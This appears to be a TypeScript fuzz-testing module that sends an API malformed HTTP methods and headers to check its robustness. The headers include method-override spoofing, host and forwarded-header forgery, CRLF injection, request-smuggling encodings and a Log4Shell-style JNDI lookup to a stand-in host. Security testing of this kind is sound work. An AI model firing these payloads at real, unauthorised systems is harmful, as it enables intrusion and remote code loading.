import fc from 'fast-check'
import { type Attack, authorizedFor, existingTarget, inheritedNames } from './attack.ts'

type Headers = Readonly<Record<string, string>>

const overriding = (name: string): Headers[] =>
  ['DELETE', 'PUT', 'TRACE', 'delete'].map((method) => ({ [name]: method }))

const flood: Headers = Object.fromEntries(
  Array.from({ length: 500 }, (_, at) => [`x-flood-${at}`, 'x'.repeat(at % 100)]),
)

const strange: Headers[] = [
  flood,
  Object.fromEntries(inheritedNames.map((name) => [name.toLowerCase(), '1'])),
  ...overriding('x-http-method-override'),
  ...overriding('x-http-method'),
  ...overriding('x-method-override'),
  { 'x-original-url': '/users' },
  { 'x-rewrite-url': '/users' },
  { 'x-forwarded-prefix': '/../' },
  { 'x-forwarded-host': 'evil.example' },
  { 'x-forwarded-proto': 'javascript' },
  { 'x-forwarded-for': '' },
  { 'x-forwarded-for': ','.repeat(4_000) },
  { 'x-forwarded-for': Array(1_000).fill('203.0.113.7').join(', ') },
  { 'x-forwarded-for': `::ffff:${'9'.repeat(50)}, [::1]:80, \u0000, é, 1.2.3.4.5` },
  { 'x-front-door': 'guess', 'x-viewer-address': '203.0.113.7', 'x-viewer-host': 'evil' },
  { 'x-viewer-address': '__proto__' },
  { forwarded: 'for=127.0.0.1;host=evil;proto=https' },
  { host: '' },
  { host: 'evil.example:99999' },
  { host: `${'a.'.repeat(5_000)}example` },
  { host: '[::1' },
  { origin: 'null' },
  { origin: 'http://localhost:3000.evil.example' },
  { origin: 'http://localhost:3000\r\nset-cookie: a=b' },
  { 'accept-encoding': 'gzip;q=NaN, *;q=-1' },
  { 'accept-encoding': 'gzip,'.repeat(1_000) },
  { accept: 'text/html;q=1e400' },
  { 'if-none-match': '"'.repeat(10_000) },
  { 'if-modified-since': 'Thu, 99 Foo 0000 99:99:99' },
  { range: 'bytes=0-0,0-0,9999999999999999999-' },
  { 'content-length': '-1' },
  { 'content-length': '99999999999' },
  { 'transfer-encoding': 'chunked, identity' },
  { 'content-encoding': 'gzip, br, x' },
  { expect: '100-continue' },
  { upgrade: 'websocket', connection: 'upgrade', 'sec-websocket-key': 'x' },
  { te: 'trailers', trailer: 'Cookie' },
  { 'user-agent': `${'$'}{jndi:ldap://evil/x}` },
  { 'user-agent': '\u0000\u001b[2J' },
  { 'access-control-request-method': 'DELETE' },
]

const several = fc
  .array(fc.constantFrom(...strange), { minLength: 1, maxLength: 3 })
  .map((all): Headers => Object.assign({}, ...all))

/** Floods, forwarded addresses, methods and addresses that headers ask for. */
export const hostileHeaders: Attack = {
  name: 'headers',
  fits: () => true,
  perEndpoint: 6,
  // Only reads with rights: what a header asks for must not become a write
  requests: (endpoint, loot) =>
    several.map((headers) => ({
      method: endpoint.method,
      target: existingTarget(endpoint, loot),
      headers: {
        ...(endpoint.method === 'GET' && authorizedFor(endpoint, loot)),
        ...headers,
      },
      ...(endpoint.method !== 'GET' && { body: '{' }),
    })),
  expects: (status, { method }) => method === 'GET' || status !== 500,
}

const methods = [
  ...'PATCH HEAD TRACE TRACK PROPFIND QUERY get delete Post PUTS XDELETE M-SEARCH'.split(
    ' ',
  ),
  ...'DELETE |__proto__|*'.split('|'),
]

/** Methods that no endpoint has, with every right and an override on the way. */
export const strangeMethods: Attack = {
  name: 'methods',
  fits: () => true,
  perEndpoint: 6,
  requests: (endpoint, loot) =>
    fc
      .tuple(fc.constantFrom(...methods), several, fc.boolean())
      .map(([method, headers, isInQuery]) => ({
        method,
        target: `${existingTarget(endpoint, loot)}${isInQuery ? `?_method=${endpoint.method}` : ''}`,
        headers: {
          ...authorizedFor(endpoint, loot),
          ...headers,
          'x-http-method-override': endpoint.method,
        },
        body: '{}',
      })),
  expects: (status) => status === 404 || status === 405,
}
